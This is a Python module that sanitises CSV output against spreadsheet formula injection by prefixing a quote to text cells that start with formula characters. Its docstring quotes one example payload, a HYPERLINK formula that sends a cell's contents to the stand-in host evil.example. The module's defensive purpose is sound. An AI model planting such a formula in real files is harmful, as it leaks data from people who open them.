"""One rule for every CSV file Steadfast writes: no cell opens as a formula.

A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a formula (and tab or
carriage return can hide one), so a cohort titled `=HYPERLINK("http://evil.example/?d="&A1)`
would run in the lead's spreadsheet when they open the report. Following OWASP's advice, a
text cell that begins with one of those characters is written with a single quote in front
(`'=HYPERLINK(...)`): spreadsheets show it as text, and a program reading the file gets the
original back by removing that one quote.

Decision: only text is changed. A real number (a Python `int`, `float` or `Decimal`, such as
a mean change of -1.53) is written as the number it is, so it still sorts and sums in a
spreadsheet; a number can never be a formula. Everything else that is not text (a date, an
object) is written as its text and goes through the same rule. `None` stays an empty cell.

Use `writer(...)` or `DictWriter(...)` here instead of `csv.writer` and `csv.DictWriter`; a
test fails if any module of ours calls those two directly.
"""

from __future__ import annotations

import csv
from collections.abc import Collection, Iterable, Mapping
from decimal import Decimal
from typing import Any, Literal, Protocol

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value as it may go into a CSV cell: numbers and None as they are, any text that
    would start a formula with a single quote in front."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    return QUOTE + text if text.startswith(DANGEROUS_STARTS) else text


class Writer:
    """`csv.writer` with every cell passed through `safe_cell`."""

    def __init__(
        self, f: _Writable, dialect: str | csv.Dialect | type[csv.Dialect] = "excel", **fmt: Any
    ) -> None:
        self._writer = csv.writer(f, dialect, **fmt)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(
    f: _Writable, dialect: str | csv.Dialect | type[csv.Dialect] = "excel", **fmt: Any
) -> Writer:
    return Writer(f, dialect, **fmt)


class DictWriter(csv.DictWriter[str]):
    """`csv.DictWriter` with every cell (the header too) passed through `safe_cell`."""

    def __init__(
        self,
        f: _Writable,
        fieldnames: Collection[str],
        restval: Any = "",
        extrasaction: Literal["raise", "ignore"] = "raise",
        dialect: str | csv.Dialect | type[csv.Dialect] = "excel",
        **fmt: Any,
    ) -> None:
        super().__init__(f, fieldnames, safe_cell(restval), extrasaction, dialect, **fmt)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
